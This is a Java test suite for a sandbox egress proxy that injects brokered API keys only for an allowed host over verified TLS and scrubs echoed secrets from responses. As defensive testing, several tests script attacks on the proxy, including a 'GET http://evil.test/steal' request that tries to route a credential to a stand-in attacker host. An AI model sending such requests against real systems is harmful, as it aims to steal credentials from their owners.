package dev.sandbox4j.core.egress;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertThrows;

import dev.sandbox4j.NetworkPolicy;
import dev.sandbox4j.NetworkPolicy.Credential;
import dev.sandbox4j.SandboxSpec;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyStore;
import java.security.cert.CertificateFactory;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Function;
import javax.net.ssl.KeyManagerFactory;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLServerSocket;
import javax.net.ssl.TrustManagerFactory;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Brokered credentials through the proxy, as attacks: the secret reaches only its host over verified TLS, never a
 * CONNECT tunnel, another host, a name that resolves to its host's address, or the sandbox (scrubbed from headers,
 * length-delimited, close-delimited and chunked bodies, also when split across chunks). The upstream is a raw TLS
 * server on loopback that records what it got and answers what each test scripts.
 */
class BrokeredCredentialTest {
    private static final String SECRET = "sk-real-SECRET-0123456789abcdef";

    @TempDir
    static Path tls;
    private static Upstream api;      // certificate for api.test
    private static Upstream imposter; // certificate for other.test
    private static SSLContext trustBoth;

    @BeforeAll
    static void servers() throws Exception {
        api = new Upstream(tls, "api.test");
        imposter = new Upstream(tls, "other.test");
        trustBoth = trusting(api.cert, imposter.cert);
    }

    @AfterAll
    static void stop() throws IOException {
        api.close();
        imposter.close();
    }

    private static Credential key() {
        return Credential.header("x-api-key", SECRET).forHost("api.test").exposedAs("API_KEY");
    }

    /** api.test and evil.test resolve to loopback; port 443 of loopback is the upstream named by {@code to443}. */
    private static EgressProxy proxy(NetworkPolicy policy, Upstream to443) {
        InetAddress lo = InetAddress.getLoopbackAddress();
        return EgressProxy.builder(policy).resolver(name -> List.of(lo))
                .denyList(AddressDenyList.standard().exemptingForTests(new InetSocketAddress(lo, 443),
                        new InetSocketAddress(lo, 80)))
                .dialer((target, timeout) -> EgressProxy.Dialer.PLAIN.dial(new InetSocketAddress(lo,
                        target.getPort() == 443 ? to443.port() : to443.plainPort()), timeout))
                .upstreamTls(trustBoth).build();
    }

    private static String exchange(EgressProxy proxy, String request) throws IOException {
        try (EgressProxy.Listener l = proxy.listen(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0))) {
            return Fixtures.exchange(l.port(), request);
        }
    }

    private static NetworkPolicy policy(Credential c) {
        return NetworkPolicy.allowDomains("api.test", "evil.test").withCredential(c);
    }

    @Test
    void theHostGetsTheSecretOverTlsAndTheSandboxOnlyItsPlaceholder() throws IOException {
        Credential c = key();
        api.script(r -> "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
        String got = exchange(proxy(policy(c), api), "GET http://api.test/v1/messages HTTP/1.1\r\nHost: api.test\r\n"
                + "x-api-key: " + c.placeholder() + "\r\nAccept-Encoding: gzip\r\n\r\n");
        assertThat(got).startsWith("HTTP/1.1 200").endsWith("ok");
        String head = api.lastRequest();
        assertThat(head).startsWith("GET /v1/messages HTTP/1.1").contains("x-api-key: " + SECRET)
                .contains("Host: api.test\r\n").contains("Accept-Encoding: identity")
                .doesNotContain(c.placeholder()).doesNotContain("gzip");
    }

    @Test
    void bearerBasicAndQueryFormsAreApplied() throws IOException {
        api.script(r -> "HTTP/1.1 204 No Content\r\n\r\n");
        exchange(proxy(policy(Credential.bearer(SECRET).forHost("api.test")), api),
                "GET http://api.test/a HTTP/1.1\r\nAuthorization: Bearer nope\r\n\r\n");
        assertThat(api.lastRequest()).contains("Authorization: Bearer " + SECRET).doesNotContain("nope");
        exchange(proxy(policy(Credential.basic("bot", SECRET).forHost("api.test")), api),
                "GET http://api.test/a HTTP/1.1\r\n\r\n");
        assertThat(api.lastRequest()).contains("Authorization: Basic " + Scrubber.basic("bot", SECRET));
        exchange(proxy(policy(Credential.queryParameter("key", SECRET).forHost("api.test")), api),
                "GET http://api.test/a?key=placeholder&x=1 HTTP/1.1\r\n\r\n");
        assertThat(api.lastRequest()).startsWith("GET /a?x=1&key=" + SECRET + " HTTP/1.1");
    }

    @Test
    void anEchoedSecretIsScrubbedFromHeadersAndEveryKindOfBody() throws IOException {
        Credential c = key();
        String body = "you sent " + SECRET + " twice: " + SECRET;
        api.script(r -> "HTTP/1.1 200 OK\r\nX-Echo: " + SECRET + "\r\nContent-Length: " + body.length() + "\r\n\r\n"
                + body);
        String got = exchange(proxy(policy(c), api), "GET http://api.test/ HTTP/1.1\r\n\r\n");
        assertThat(got).doesNotContain(SECRET).contains("X-Echo: " + c.placeholder())
                .endsWith("you sent " + c.placeholder() + " twice: " + c.placeholder());
        // close-delimited
        api.script(r -> "HTTP/1.1 200 OK\r\n\r\n" + body);
        got = exchange(proxy(policy(c), api), "GET http://api.test/ HTTP/1.1\r\n\r\n");
        assertThat(got).doesNotContain(SECRET).endsWith("twice: " + c.placeholder());
        // chunked, the secret split across three chunks (an SSE stream would look like this)
        String a = SECRET.substring(0, 5);
        String b = SECRET.substring(5, 9);
        String rest = SECRET.substring(9);
        api.script(r -> "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk("data: " + a) + chunk(b)
                + chunk(rest + "\n\n") + "0\r\nX-Trailer: " + SECRET + "\r\n\r\n");
        got = exchange(proxy(policy(c), api), "GET http://api.test/ HTTP/1.1\r\n\r\n");
        assertThat(got).doesNotContain(SECRET);
        assertThat(dechunk(got.substring(got.indexOf("\r\n\r\n") + 4))).isEqualTo("data: " + c.placeholder() + "\n\n");
    }

    @Test
    void aCompressedResponseIsRefusedBeforeAnyByteReachesTheSandbox() throws IOException {
        api.script(r -> "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 3\r\n\r\nxyz");
        String got = exchange(proxy(policy(key()), api), "GET http://api.test/ HTTP/1.1\r\n\r\n");
        assertThat(got).startsWith("HTTP/1.1 502").contains("compressed").doesNotContain("xyz");
    }

    @Test
    void connectToTheHostIsABlindTunnelThatCarriesNoSecret() throws IOException {
        Credential c = key();
        NetworkPolicy open = NetworkPolicy.allowDomains("api.test:*").withCredential(c);
        EgressProxy p = EgressProxy.builder(open).resolver(name -> List.of(InetAddress.getLoopbackAddress()))
                .denyList(AddressDenyList.standard().exemptingForTests(new InetSocketAddress(
                        InetAddress.getLoopbackAddress(), api.plainPort())))
                .upstreamTls(trustBoth).build();
        String got = exchange(p, "CONNECT api.test:" + api.plainPort() + " HTTP/1.1\r\n\r\nGET /t HTTP/1.1\r\n"
                + "x-api-key: " + c.placeholder() + "\r\n\r\n");
        assertThat(got).startsWith("HTTP/1.1 200");
        assertThat(api.plainReceived()).contains(c.placeholder()).doesNotContain(SECRET);
    }

    @Test
    void anotherHostNeverGetsTheSecretWhateverTheHeadersSay() throws IOException {
        Credential c = key();
        api.script(r -> "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
        // absolute form names evil.test; the Host header names api.test: the target is evil.test, not brokered
        exchange(proxy(policy(c), api), "GET http://evil.test/steal HTTP/1.1\r\nHost: api.test\r\nx-api-key: "
                + c.placeholder() + "\r\n\r\n");
        assertThat(api.plainReceived()).contains("GET /steal").doesNotContain(SECRET).contains(c.placeholder());
    }

    @Test
    void aNameReboundToAServerWithoutTheHostsCertificateGetsNothing() throws IOException {
        imposter.script(r -> "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
        int before = imposter.requests.size();
        String got = exchange(proxy(policy(key()), imposter), "GET http://api.test/ HTTP/1.1\r\n\r\n");
        assertThat(got).startsWith("HTTP/1.1 502").contains("TLS to api.test failed").doesNotContain(SECRET);
        assertThat(imposter.requests).hasSize(before);
    }

    @Test
    void theSecretIsInNoStringAndCannotBeSmuggledIntoTheSpec() {
        Credential c = key();
        NetworkPolicy p = policy(c);
        assertThat(c.placeholder()).hasSameSizeAs(SECRET).isNotEqualTo(SECRET);
        assertThat(c.toString() + p + SandboxSpec.builder().network(p).build()).doesNotContain(SECRET);
        assertThrows(IllegalArgumentException.class, () -> NetworkPolicy.allowDomains("x.test").withCredential(c));
        assertThrows(IllegalArgumentException.class, () -> Credential.bearer("short"));
        assertThrows(IllegalArgumentException.class, () -> SandboxSpec.builder().network(p).env("K", "x" + SECRET)
                .build());
        assertThrows(IllegalArgumentException.class, () -> SandboxSpec.builder().network(p).file("a", SECRET)
                .build());
    }

    @Test
    void theScrubberFindsTheSecretAcrossAnySplit() {
        Credential c = key();
        Scrubber s = Scrubber.of(policy(c));
        byte[] text = ("a" + SECRET + "b" + SECRET).getBytes(StandardCharsets.US_ASCII);
        for (int split = 0; split <= text.length; split++) {
            Scrubber one = s.copy();
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.writeBytes(one.push(text, 0, split));
            out.writeBytes(one.push(text, split, text.length - split));
            out.writeBytes(one.finish());
            assertThat(out.toString(StandardCharsets.US_ASCII)).isEqualTo("a" + c.placeholder() + "b"
                    + c.placeholder());
        }
    }

    private static String chunk(String s) {
        return Integer.toHexString(s.length()) + "\r\n" + s + "\r\n";
    }

    private static String dechunk(String s) {
        StringBuilder out = new StringBuilder();
        int i = 0;
        while (true) {
            int eol = s.indexOf("\r\n", i);
            int n = Integer.parseInt(s.substring(i, eol), 16);
            if (n == 0) {
                return out.toString();
            }
            out.append(s, eol + 2, eol + 2 + n);
            i = eol + 2 + n + 2;
        }
    }

    private static SSLContext trusting(Path... certs) throws Exception {
        KeyStore trust = KeyStore.getInstance(KeyStore.getDefaultType());
        trust.load(null, null);
        int i = 0;
        for (Path cert : certs) {
            try (InputStream in = Files.newInputStream(cert)) {
                trust.setCertificateEntry("c" + i++, CertificateFactory.getInstance("X.509").generateCertificate(in));
            }
        }
        TrustManagerFactory tmf = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());
        tmf.init(trust);
        SSLContext c = SSLContext.getInstance("TLS");
        c.init(null, tmf.getTrustManagers(), null);
        return c;
    }

    /** A TLS server with a certificate for one name, and a plain TCP port beside it; records what it receives. */
    static final class Upstream implements AutoCloseable {
        final Path cert;
        final List<String> requests = new CopyOnWriteArrayList<>();
        private final SSLServerSocket server;
        private final ServerSocket plain;
        private final ByteArrayOutputStream plainBytes = new ByteArrayOutputStream();
        private volatile Function<String, String> script = r -> "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n";

        Upstream(Path dir, String name) throws Exception {
            Path ks = dir.resolve(name + ".p12");
            cert = dir.resolve(name + ".pem");
            String keytool = Path.of(System.getProperty("java.home"), "bin", "keytool").toString();
            run(keytool, "-genkeypair", "-alias", name, "-keyalg", "EC", "-groupname", "secp256r1", "-dname",
                    "CN=" + name, "-ext", "SAN=dns:" + name, "-validity", "2", "-keystore", ks.toString(),
                    "-storetype", "PKCS12", "-storepass", "changeit", "-keypass", "changeit");
            run(keytool, "-exportcert", "-rfc", "-alias", name, "-keystore", ks.toString(), "-storepass", "changeit",
                    "-file", cert.toString());
            KeyStore store = KeyStore.getInstance("PKCS12");
            try (InputStream in = Files.newInputStream(ks)) {
                store.load(in, "changeit".toCharArray());
            }
            KeyManagerFactory kmf = KeyManagerFactory.getInstance(KeyManagerFactory.getDefaultAlgorithm());
            kmf.init(store, "changeit".toCharArray());
            SSLContext ctx = SSLContext.getInstance("TLS");
            ctx.init(kmf.getKeyManagers(), null, null);
            InetAddress lo = InetAddress.getLoopbackAddress();
            server = (SSLServerSocket) ctx.getServerSocketFactory().createServerSocket(0, 50, lo);
            plain = new ServerSocket(0, 50, lo);
            Fixtures.daemon(() -> serve(server));
            Fixtures.daemon(() -> serve(plain));
        }

        void script(Function<String, String> answer) {
            script = answer;
        }

        int port() {
            return server.getLocalPort();
        }

        int plainPort() {
            return plain.getLocalPort();
        }

        String lastRequest() {
            return requests.get(requests.size() - 1);
        }

        String plainReceived() {
            synchronized (plainBytes) {
                return plainBytes.toString(StandardCharsets.ISO_8859_1);
            }
        }

        private void serve(ServerSocket ss) {
            while (!ss.isClosed()) {
                Socket s;
                try {
                    s = ss.accept();
                } catch (IOException e) {
                    return;
                }
                Fixtures.daemon(() -> answer(s, ss == plain));
            }
        }

        private void answer(Socket socket, boolean isPlain) {
            try (Socket s = socket) {
                s.setSoTimeout(5_000);
                InputStream in = s.getInputStream();
                ByteArrayOutputStream head = new ByteArrayOutputStream();
                while (!head.toString(StandardCharsets.ISO_8859_1).endsWith("\r\n\r\n")) {
                    int c = in.read();
                    if (c < 0) {
                        break;
                    }
                    head.write(c);
                    if (isPlain) {
                        synchronized (plainBytes) {
                            plainBytes.write(c);
                        }
                    }
                }
                String h = head.toString(StandardCharsets.ISO_8859_1);
                if (!isPlain) {
                    requests.add(h);
                }
                OutputStream out = s.getOutputStream();
                out.write(script.apply(h).getBytes(StandardCharsets.ISO_8859_1));
                out.flush();
            } catch (IOException e) {
                // a client that failed the handshake (the imposter test) or went away
            }
        }

        private static void run(String... command) throws Exception {
            Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
            String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            if (p.waitFor() != 0) {
                throw new IOException("keytool failed: " + out);
            }
        }

        @Override
        public void close() throws IOException {
            server.close();
            plain.close();
        }
    }
}
